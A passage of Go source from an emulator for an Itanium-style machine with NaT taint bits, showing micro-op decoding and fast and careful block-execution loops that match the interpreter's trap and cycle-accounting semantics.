			u.kind = uLdS8
		case 4:
			u.kind = uLdS4
		case 2:
			u.kind = uLdS2
		default:
			u.kind = uLdS1
		}
	case isa.OpLdFill:
		u.kind = uLdFill
		u.bit = uint8(ins.Imm)
	case isa.OpSt:
		switch ins.Size {
		case 8:
			u.kind = uSt8
		case 4:
			u.kind = uSt4
		case 2:
			u.kind = uSt2
		default:
			u.kind = uSt1
		}
	case isa.OpStSpill:
		u.kind = uStSpill
		u.bit = uint8(ins.Imm)
	case isa.OpChkS:
		u.kind = uChkS
		term = true
	case isa.OpBr:
		u.kind = uBr
		term = true
	case isa.OpBrCall:
		u.kind = uBrCall
		term = true
	case isa.OpBrRet:
		u.kind = uBrRet
		term = true
	case isa.OpBrInd:
		u.kind = uBrInd
		term = true
	case isa.OpMovToBr:
		u.kind = uMovToBr
	case isa.OpMovFromBr:
		u.kind = uMovFromBr
	case isa.OpMovToUnat:
		u.kind = uMovToUnat
	case isa.OpMovFromUnat:
		u.kind = uMovFromUnat
	case isa.OpMovToCcv:
		u.kind = uMovToCcv
	case isa.OpMovFromCcv:
		u.kind = uMovFromCcv
	case isa.OpCmpxchg:
		u.kind = uCmpxchg
		u.bit = ins.Size
	case isa.OpSetNat:
		u.kind = uSetNat
	case isa.OpClrNat:
		u.kind = uClrNat
	case isa.OpSyscall:
		u.kind = uSyscall
		term = true
	case isa.OpNop:
		u.kind = uNop
	default:
		u.kind = uIllegal
	}
	return u, term
}

// blockAbort materializes machine state at a fault inside a block's
// straight-line run — PC at the trapping instruction, the trapping
// instruction counted as retired (matching the interpreter's
// count-at-fetch), locally accumulated cycles written back — and builds
// the trap.
func (m *Machine) blockAbort(b *block, i int, cycles uint64, kind TrapKind, addr uint64, reg uint8, err error) *Trap {
	pc := b.entry + i
	m.PC = pc
	m.Retired += uint64(i + 1)
	m.Cycles = cycles
	return &Trap{Kind: kind, PC: pc, Addr: addr, Reg: reg, Ins: b.ins[i].String(), Err: err}
}

// execBlocksFast is the hook-free block engine slice loop, the drop-in
// counterpart of exec(text, budget, sliceEnd, false) when no StepHook
// or Stats collector is attached. Exit conditions, trap state and
// accounting are bit-identical to the interpreter's; PC, Retired and
// Cycles are materialized lazily at block exits.
func (m *Machine) execBlocksFast(text []isa.Instruction, budget, sliceEnd uint64) *Trap {
	tc := m.translations(text)
	unsafePre := m.UnsafePreempt
	textLen := uint(len(text))
	mm := m.Mem
	co := &m.Costs
	cALU, cMovl, cMulDiv := co.ALU, co.Movl, co.MulDiv
	cLd, cLdMiss, cSt, cSpillFill := co.Ld, co.LdMiss, co.St, co.SpillFill
	cChk, cBr, cNop, cPredOff := co.Chk, co.Br, co.Nop, co.PredOff
	cSyscall, cDefer := co.Syscall, co.Defer
	byClass := &m.CyclesByClass
	cycles := m.Cycles
	for {
		pc := m.PC
		// One unsigned compare covers both out-of-range directions
		// (HaltPC is negative, so it lands here too) — same as exec.
		if uint(pc) >= textLen {
			m.Cycles = cycles
			if pc == HaltPC {
				m.Halt(m.GR[isa.RegRet])
				return nil
			}
			return &Trap{Kind: TrapBadPC, PC: pc, Ins: "<none>"}
		}
		b := tc.lookup(m, pc)
		if m.Retired+uint64(b.n) > budget {
			// The retirement budget expires inside this block. The
			// interpreter is the reference for the exact trap point and
			// state, so hand it the rest of the slice rather than
			// re-deriving those semantics here.
			m.Cycles = cycles
			return m.exec(text, budget, sliceEnd, false)
		}

		entry := b.entry
		steps := b.n
		if b.term {
			steps--
		}
		uops := b.uops
		for i := 0; i < steps; i++ {
			u := &uops[i]
			if u.qp != 0 && !m.PR[u.qp&63] {
				// Predicated off: the fetch slot is consumed, nothing
				// else happens.
				cycles += cPredOff
				byClass[u.class] += cPredOff
			} else {
				switch u.kind {
				case uAdd:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] + m.GR[u.s2&127]
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uSub:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] - m.GR[u.s2&127]
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uClear:
					// xor/sub self-clearing (§3.2): the result is
					// independent of the register's content, so the
					// token clears with it.
					if u.d != 0 {
						m.GR[u.d&127] = 0
						m.NaT[u.d&127] = false
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uAnd:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] & m.GR[u.s2&127]
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uAndcm:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] &^ m.GR[u.s2&127]
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uOr:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] | m.GR[u.s2&127]
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uXor:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] ^ m.GR[u.s2&127]
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uShl:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] << (uint64(m.GR[u.s2&127]) & 63)
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uShr:
					if u.d != 0 {
						m.GR[u.d&127] = int64(uint64(m.GR[u.s1&127]) >> (uint64(m.GR[u.s2&127]) & 63))
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uSar:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] >> (uint64(m.GR[u.s2&127]) & 63)
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uMul:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] * m.GR[u.s2&127]
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cMulDiv
					byClass[u.class] += cMulDiv
				case uDiv:
					v := m.GR[u.s2&127]
					if v == 0 {
						return m.blockAbort(b, i, cycles, TrapDivZero, 0, 0, nil)
					}
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] / v
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cMulDiv
					byClass[u.class] += cMulDiv
				case uRem:
					v := m.GR[u.s2&127]
					if v == 0 {
						return m.blockAbort(b, i, cycles, TrapDivZero, 0, 0, nil)
					}
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] % v
						m.NaT[u.d&127] = m.NaT[u.s1&127] || m.NaT[u.s2&127]
					}
					cycles += cMulDiv
					byClass[u.class] += cMulDiv
				case uAddi:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] + u.imm
						m.NaT[u.d&127] = m.NaT[u.s1&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uAndi:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] & u.imm
						m.NaT[u.d&127] = m.NaT[u.s1&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uOri:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] | u.imm
						m.NaT[u.d&127] = m.NaT[u.s1&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uXori:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] ^ u.imm
						m.NaT[u.d&127] = m.NaT[u.s1&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uShli:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] << (uint64(u.imm) & 63)
						m.NaT[u.d&127] = m.NaT[u.s1&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uShri:
					if u.d != 0 {
						m.GR[u.d&127] = int64(uint64(m.GR[u.s1&127]) >> (uint64(u.imm) & 63))
						m.NaT[u.d&127] = m.NaT[u.s1&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uSari:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127] >> (uint64(u.imm) & 63)
						m.NaT[u.d&127] = m.NaT[u.s1&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uMov:
					if u.d != 0 {
						m.GR[u.d&127] = m.GR[u.s1&127]
						m.NaT[u.d&127] = m.NaT[u.s1&127]
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uMovl:
					if u.d != 0 {
						m.GR[u.d&127] = u.imm
						m.NaT[u.d&127] = false
					}
					cycles += cMovl
					byClass[u.class] += cMovl
				case uCmp:
					if m.NaT[u.s1&127] || m.NaT[u.s2&127] {
						// NaT-sensitive: clear both predicate targets so
						// neither branch direction commits state (§3.1).
						if u.p1 != 0 {
							m.PR[u.p1&63] = false
						}
						if u.p2 != 0 {
							m.PR[u.p2&63] = false
						}
					} else {
						r := u.cond.Eval(m.GR[u.s1&127], m.GR[u.s2&127])
						if u.p1 != 0 {
							m.PR[u.p1&63] = r
						}
						if u.p2 != 0 {
							m.PR[u.p2&63] = !r
						}
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uCmpi:
					if m.NaT[u.s1&127] {
						if u.p1 != 0 {
							m.PR[u.p1&63] = false
						}
						if u.p2 != 0 {
							m.PR[u.p2&63] = false
						}
					} else {
						r := u.cond.Eval(m.GR[u.s1&127], u.imm)
						if u.p1 != 0 {
							m.PR[u.p1&63] = r
						}
						if u.p2 != 0 {
							m.PR[u.p2&63] = !r
						}
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uCmpNa, uCmpiNa:
					if !m.Feat.NaTAwareCmp {
						return m.blockAbort(b, i, cycles, TrapIllegal, 0, 0,
							fmt.Errorf("cmp.na requires the NaT-aware-compare enhancement"))
					}
					v := u.imm
					if u.kind == uCmpNa {
						v = m.GR[u.s2&127]
					}
					r := u.cond.Eval(m.GR[u.s1&127], v)
					if u.p1 != 0 {
						m.PR[u.p1&63] = r
					}
					if u.p2 != 0 {
						m.PR[u.p2&63] = !r
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uTnat:
					nat := m.NaT[u.s1&127]
					if u.p1 != 0 {
						m.PR[u.p1&63] = nat
					}
					if u.p2 != 0 {
						m.PR[u.p2&63] = !nat
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uLd8:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTLoadAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					v, missed, f := mm.Read8Miss(addr)
					if f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					// A plain load always clears the destination's NaT
					// bit — the behaviour SHIFT exploits to strip a
					// token (§4.1).
					if u.d != 0 {
						m.GR[u.d&127] = int64(v)
						m.NaT[u.d&127] = false
					}
					c := cLd
					if missed {
						c += cLdMiss
					}
					cycles += c
					byClass[u.class] += c
				case uLd4:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTLoadAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					v, missed, f := mm.Read4Miss(addr)
					if f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					if u.d != 0 {
						m.GR[u.d&127] = int64(v)
						m.NaT[u.d&127] = false
					}
					c := cLd
					if missed {
						c += cLdMiss
					}
					cycles += c
					byClass[u.class] += c
				case uLd2:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTLoadAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					v, missed, f := mm.Read2Miss(addr)
					if f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					if u.d != 0 {
						m.GR[u.d&127] = int64(v)
						m.NaT[u.d&127] = false
					}
					c := cLd
					if missed {
						c += cLdMiss
					}
					cycles += c
					byClass[u.class] += c
				case uLd1:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTLoadAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					v, missed, f := mm.Read1Miss(addr)
					if f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					if u.d != 0 {
						m.GR[u.d&127] = int64(v)
						m.NaT[u.d&127] = false
					}
					c := cLd
					if missed {
						c += cLdMiss
					}
					cycles += c
					byClass[u.class] += c
				case uLdS8, uLdS4, uLdS2, uLdS1:
					// Control-speculative load: faults (including a
					// NaT'd address) become a deferred-exception token
					// instead of a trap. Deferral is not free: the
					// failed access runs to completion first.
					if m.NaT[u.s1&127] {
						if u.d != 0 {
							m.GR[u.d&127] = 0
							m.NaT[u.d&127] = true
						}
						cycles += cLd + cDefer
						byClass[u.class] += cLd + cDefer
						break
					}
					addr := uint64(m.GR[u.s1&127])
					var v uint64
					var missed bool
					var fault error
					switch u.kind {
					case uLdS8:
						r, mi, f := mm.Read8Miss(addr)
						v, missed = r, mi
						if f != nil {
							fault = f
						}
					case uLdS4:
						r, mi, f := mm.Read4Miss(addr)
						v, missed = r, mi
						if f != nil {
							fault = f
						}
					case uLdS2:
						r, mi, f := mm.Read2Miss(addr)
						v, missed = r, mi
						if f != nil {
							fault = f
						}
					default:
						r, mi, f := mm.Read1Miss(addr)
						v, missed = r, mi
						if f != nil {
							fault = f
						}
					}
					if fault != nil {
						if u.d != 0 {
							m.GR[u.d&127] = 0
							m.NaT[u.d&127] = true
						}
						cycles += cLd + cDefer
						byClass[u.class] += cLd + cDefer
						break
					}
					if u.d != 0 {
						m.GR[u.d&127] = int64(v)
						m.NaT[u.d&127] = false
					}
					c := cLd
					if missed {
						c += cLdMiss
					}
					cycles += c
					byClass[u.class] += c
				case uLdFill:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTLoadAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					v, missed, f := mm.Read8Miss(addr)
					if f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					if u.d != 0 {
						m.GR[u.d&127] = int64(v)
						m.NaT[u.d&127] = m.UNAT>>uint(u.bit)&1 != 0
					}
					c := cLd + cSpillFill
					if missed {
						c += cLdMiss
					}
					cycles += c
					byClass[u.class] += c
				case uSt8:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTStoreAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					if m.NaT[u.s2&127] {
						// Plain stores may not consume a token (§2.2).
						return m.blockAbort(b, i, cycles, TrapNaTStoreData, uint64(m.GR[u.s1&127]), u.s2, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					if f := mm.Write8(addr, uint64(m.GR[u.s2&127])); f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					cycles += cSt
					byClass[u.class] += cSt
				case uSt4:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTStoreAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					if m.NaT[u.s2&127] {
						return m.blockAbort(b, i, cycles, TrapNaTStoreData, uint64(m.GR[u.s1&127]), u.s2, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					if f := mm.Write4(addr, uint64(m.GR[u.s2&127])); f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					cycles += cSt
					byClass[u.class] += cSt
				case uSt2:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTStoreAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					if m.NaT[u.s2&127] {
						return m.blockAbort(b, i, cycles, TrapNaTStoreData, uint64(m.GR[u.s1&127]), u.s2, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					if f := mm.Write2(addr, uint64(m.GR[u.s2&127])); f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					cycles += cSt
					byClass[u.class] += cSt
				case uSt1:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTStoreAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					if m.NaT[u.s2&127] {
						return m.blockAbort(b, i, cycles, TrapNaTStoreData, uint64(m.GR[u.s1&127]), u.s2, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					if f := mm.Write1(addr, uint64(m.GR[u.s2&127])); f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					cycles += cSt
					byClass[u.class] += cSt
				case uStSpill:
					// st8.spill tolerates NaT'd *data* (the bit goes to
					// UNAT), but the address must still be clean.
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTStoreAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					if f := mm.Write8(addr, uint64(m.GR[u.s2&127])); f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					if m.NaT[u.s2&127] {
						m.UNAT |= 1 << uint(u.bit)
					} else {
						m.UNAT &^= 1 << uint(u.bit)
					}
					cycles += cSt + cSpillFill
					byClass[u.class] += cSt + cSpillFill
				case uMovToBr:
					if m.NaT[u.s1&127] {
						// The L3 hardware event: tainted data may not
						// reach the registers that control transfer of
						// control.
						return m.blockAbort(b, i, cycles, TrapNaTBranch, 0, u.s1, nil)
					}
					m.BR[u.b&7] = m.GR[u.s1&127]
					cycles += cALU
					byClass[u.class] += cALU
				case uMovFromBr:
					if u.d != 0 {
						m.GR[u.d&127] = m.BR[u.b&7]
						m.NaT[u.d&127] = false
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uMovToUnat:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTBranch, 0, u.s1, nil)
					}
					m.UNAT = uint64(m.GR[u.s1&127])
					cycles += cALU
					byClass[u.class] += cALU
				case uMovFromUnat:
					if u.d != 0 {
						m.GR[u.d&127] = int64(m.UNAT)
						m.NaT[u.d&127] = false
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uMovToCcv:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTBranch, 0, u.s1, nil)
					}
					m.CCV = uint64(m.GR[u.s1&127])
					cycles += cALU
					byClass[u.class] += cALU
				case uMovFromCcv:
					if u.d != 0 {
						m.GR[u.d&127] = int64(m.CCV)
						m.NaT[u.d&127] = false
					}
					cycles += cALU
					byClass[u.class] += cALU
				case uCmpxchg:
					if m.NaT[u.s1&127] {
						return m.blockAbort(b, i, cycles, TrapNaTStoreAddr, uint64(m.GR[u.s1&127]), u.s1, nil)
					}
					if m.NaT[u.s2&127] {
						return m.blockAbort(b, i, cycles, TrapNaTStoreData, uint64(m.GR[u.s1&127]), u.s2, nil)
					}
					addr := uint64(m.GR[u.s1&127])
					old, missed, f := mm.ReadMiss(addr, int(u.bit))
					if f != nil {
						return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
					}
					if old == m.CCV {
						if f := mm.Write(addr, int(u.bit), uint64(m.GR[u.s2&127])); f != nil {
							return m.blockAbort(b, i, cycles, TrapMemFault, addr, 0, f)
						}
					}
					if u.d != 0 {
						m.GR[u.d&127] = int64(old)
						m.NaT[u.d&127] = false
					}
					c := cLd + cSt // semaphore ops pay both halves
					if missed {
						c += cLdMiss
					}
					cycles += c
					byClass[u.class] += c
				case uSetNat:
					if !m.Feat.SetClrNaT {
						return m.blockAbort(b, i, cycles, TrapIllegal, 0, 0,
							fmt.Errorf("setnat requires the set/clear-NaT enhancement"))
					}
					m.NaT[u.d&127] = u.d != isa.RegZero
					cycles += cALU
					byClass[u.class] += cALU
				case uClrNat:
					if !m.Feat.SetClrNaT {
						return m.blockAbort(b, i, cycles, TrapIllegal, 0, 0,
							fmt.Errorf("clrnat requires the set/clear-NaT enhancement"))
					}
					m.NaT[u.d&127] = false
					cycles += cALU
					byClass[u.class] += cALU
				case uNop:
					cycles += cNop
					byClass[u.class] += cNop
				default:
					return m.blockAbort(b, i, cycles, TrapIllegal, 0, 0,
						fmt.Errorf("undefined opcode"))
				}
			}
			if cycles >= sliceEnd && (b.preempt[i] || unsafePre) {
				// Tag-coherent quantum expiry, at exactly the boundary
				// the interpreter's bottom-of-loop test would pick.
				m.PC = entry + i + 1
				m.Retired += uint64(i + 1)
				m.Cycles = cycles
				return nil
			}
		}

		// Straight-line ops done; materialize state at the terminator
		// (the OS model reads PC, Retired and Cycles, and a trapping
		// terminator must leave interpreter-identical state).
		m.PC = entry + steps
		m.Retired += uint64(b.n)
		if !b.term {
			// Fell off the end of the text mid-chain; the top-of-loop
			// check classifies the out-of-range PC. The slice check for
			// the final op already ran inside the loop.
			continue
		}
		u := &uops[steps]
		npc := entry + steps + 1
		if u.qp != 0 && !m.PR[u.qp&63] {
			cycles += cPredOff
			byClass[u.class] += cPredOff
		} else {
			switch u.kind {
			case uBr:
				npc = int(u.tgt)
				cycles += cBr
				byClass[u.class] += cBr
			case uBrCall:
				m.BR[u.b&7] = int64(entry + steps + 1)
				npc = int(u.tgt)
				cycles += cBr
				byClass[u.class] += cBr
			case uBrRet, uBrInd:
				npc = int(m.BR[u.b&7])
				cycles += cBr
				byClass[u.class] += cBr
			case uChkS:
				if m.NaT[u.s1&127] {
					npc = int(u.tgt)
					cycles += cBr
					byClass[u.class] += cBr
				} else {
					cycles += cChk
					byClass[u.class] += cChk
				}
			case uSyscall:
				if m.OS == nil {
					m.Cycles = cycles
					return &Trap{Kind: TrapHostError, PC: m.PC, Ins: b.ins[steps].String(),
						Err: fmt.Errorf("no syscall handler installed")}
				}
				// The handler observes fully materialized state, cycles
				// included (trace timestamps, world time).
				m.Cycles = cycles + cSyscall
				byClass[u.class] += cSyscall
				extra, trap := m.OS.Syscall(m, u.imm)
				m.Cycles += extra
				byClass[u.class] += extra
				cycles = m.Cycles
				if trap != nil {
					return trap
				}
			}
		}
		m.PC = npc
		if m.Halted || m.YieldReq {
			m.Cycles = cycles
			return nil
		}
		if cycles >= sliceEnd && (unsafePre || uint(npc) >= textLen || text[npc].Class == isa.ClassOrig) {
			m.Cycles = cycles
			return nil
		}
	}
}

// execBlocksCareful is the block engine's slice loop when a StepHook or
// Stats collector is attached: same compiled blocks, walked one
// micro-op at a time with eager PC/Retired/Cycles and PreStep/PostStep
// exactly where the interpreter fires them. Compile once, don't
// reinterpret — the hooked flavor shares the translation cache with the
// fast path.
func (m *Machine) execBlocksCareful(text []isa.Instruction, budget, sliceEnd uint64) *Trap {
	tc := m.translations(text)
	for {
		if uint(m.PC) >= uint(len(text)) {
			if m.PC == HaltPC {
				m.Halt(m.GR[isa.RegRet])
				return nil
			}
			return &Trap{Kind: TrapBadPC, PC: m.PC, Ins: "<none>"}
		}
		b := tc.lookup(m, m.PC)
		if m.Retired+uint64(b.n) > budget {
			return m.exec(text, budget, sliceEnd, false)
		}
		trap, done := m.runBlockCareful(b, text, sliceEnd)
		if trap != nil || done {
			return trap
		}
	}
}

// runBlockCareful executes one compiled block with full per-instruction
// fidelity. done reports a slice exit (halt, yield, quantum expiry);
// (nil, false) means fall through to the next block.
func (m *Machine) runBlockCareful(b *block, text []isa.Instruction, sliceEnd uint64) (trap *Trap, done bool) {
	for i := 0; i < b.n; i++ {
		ins := b.ins[i]
		pc := b.entry + i
		m.PC = pc
		m.Retired++
		if st := m.Stats; st != nil {
			st.RetiredByOp[ins.Op]++
			if st.Profile != nil {
				st.Profile[pc]++
			}
		}
		h := m.Hook
		if h != nil {
			h.PreStep(m, ins)
		}
		// Straight-line ops fall through; terminator micro-ops overwrite.
		m.nextPC = pc + 1
		if t := m.stepUop(b, i); t != nil {
			return t, true
		}
		if h != nil {
			// PostStep observes the instruction with PC still on it, as
			// in the interpreter (the advance happens after).
			if err := h.PostStep(m, ins); err != nil {
				return m.trap(TrapOracle, ins, 0, 0, err), true
			}
		}
		m.PC = m.nextPC
		if m.Halted || m.YieldReq || (m.Cycles >= sliceEnd && m.sliceBoundary(text)) {
			return nil, true
		}
	}
	return nil, false
}

// stepUop executes one micro-op with eager accounting — the careful
// driver's per-instruction block flavor. m.PC must already be at the
// op's pc and m.nextPC preset to the fall-through successor. Every arm
// mirrors the interpreter's switch in exec exactly; the differential
// engine suite enforces agreement.
func (m *Machine) stepUop(b *block, i int) *Trap {
	u := &b.uops[i]
	ins := b.ins[i]
	c := &m.Costs
	if u.qp != 0 && !m.PR[u.qp&63] {
		m.charge(ins, c.PredOff)
		return nil
	}
	switch u.kind {
	case uAdd:
		m.setGR(u.d, m.GR[u.s1&127]+m.GR[u.s2&127], m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.ALU)
	case uSub:
		m.setGR(u.d, m.GR[u.s1&127]-m.GR[u.s2&127], m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.ALU)
	case uClear:
		m.setGR(u.d, 0, false)
		m.charge(ins, c.ALU)
	case uAnd:
		m.setGR(u.d, m.GR[u.s1&127]&m.GR[u.s2&127], m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.ALU)
	case uAndcm:
		m.setGR(u.d, m.GR[u.s1&127]&^m.GR[u.s2&127], m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.ALU)
	case uOr:
		m.setGR(u.d, m.GR[u.s1&127]|m.GR[u.s2&127], m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.ALU)
	case uXor:
		m.setGR(u.d, m.GR[u.s1&127]^m.GR[u.s2&127], m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.ALU)
	case uShl:
		m.setGR(u.d, m.GR[u.s1&127]<<(uint64(m.GR[u.s2&127])&63), m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.ALU)
	case uShr:
		m.setGR(u.d, int64(uint64(m.GR[u.s1&127])>>(uint64(m.GR[u.s2&127])&63)), m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.ALU)
	case uSar:
		m.setGR(u.d, m.GR[u.s1&127]>>(uint64(m.GR[u.s2&127])&63), m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.ALU)
	case uMul:
		m.setGR(u.d, m.GR[u.s1&127]*m.GR[u.s2&127], m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.MulDiv)
	case uDiv:
		v := m.GR[u.s2&127]
		if v == 0 {
			return m.trap(TrapDivZero, ins, 0, 0, nil)
		}
		m.setGR(u.d, m.GR[u.s1&127]/v, m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.MulDiv)
	case uRem:
		v := m.GR[u.s2&127]
		if v == 0 {
			return m.trap(TrapDivZero, ins, 0, 0, nil)
		}
		m.setGR(u.d, m.GR[u.s1&127]%v, m.NaT[u.s1&127] || m.NaT[u.s2&127])
		m.charge(ins, c.MulDiv)
	case uAddi:
		m.setGR(u.d, m.GR[u.s1&127]+u.imm, m.NaT[u.s1&127])
		m.charge(ins, c.ALU)
	case uAndi:
		m.setGR(u.d, m.GR[u.s1&127]&u.imm, m.NaT[u.s1&127])
		m.charge(ins, c.ALU)
	case uOri:
		m.setGR(u.d, m.GR[u.s1&127]|u.imm, m.NaT[u.s1&127])
		m.charge(ins, c.ALU)
	case uXori:
		m.setGR(u.d, m.GR[u.s1&127]^u.imm, m.NaT[u.s1&127])
		m.charge(ins, c.ALU)
	case uShli:
		m.setGR(u.d, m.GR[u.s1&127]<<(uint64(u.imm)&63), m.NaT[u.s1&127])
		m.charge(ins, c.ALU)
	case uShri:
		m.setGR(u.d, int64(uint64(m.GR[u.s1&127])>>(uint64(u.imm)&63)), m.NaT[u.s1&127])
		m.charge(ins, c.ALU)
	case uSari:
		m.setGR(u.d, m.GR[u.s1&127]>>(uint64(u.imm)&63), m.NaT[u.s1&127])
		m.charge(ins, c.ALU)
	case uMov:
		m.setGR(u.d, m.GR[u.s1&127], m.NaT[u.s1&127])
		m.charge(ins, c.ALU)
	case uMovl:
		m.setGR(u.d, u.imm, false)
		m.charge(ins, c.Movl)
	case uCmp:
		if m.NaT[u.s1&127] || m.NaT[u.s2&127] {
			m.setPR(u.p1, false)
			m.setPR(u.p2, false)
		} else {
			r := u.cond.Eval(m.GR[u.s1&127], m.GR[u.s2&127])
			m.setPR(u.p1, r)
			m.setPR(u.p2, !r)
		}
		m.charge(ins, c.ALU)
	case uCmpi:
		if m.NaT[u.s1&127] {
			m.setPR(u.p1, false)
			m.setPR(u.p2, false)
		} else {
			r := u.cond.Eval(m.GR[u.s1&127], u.imm)
			m.setPR(u.p1, r)
			m.setPR(u.p2, !r)
		}
		m.charge(ins, c.ALU)
	case uCmpNa, uCmpiNa:
		if !m.Feat.NaTAwareCmp {
			return m.trap(TrapIllegal, ins, 0, 0, fmt.Errorf("cmp.na requires the NaT-aware-compare enhancement"))
		}
		v := u.imm
		if u.kind == uCmpNa {
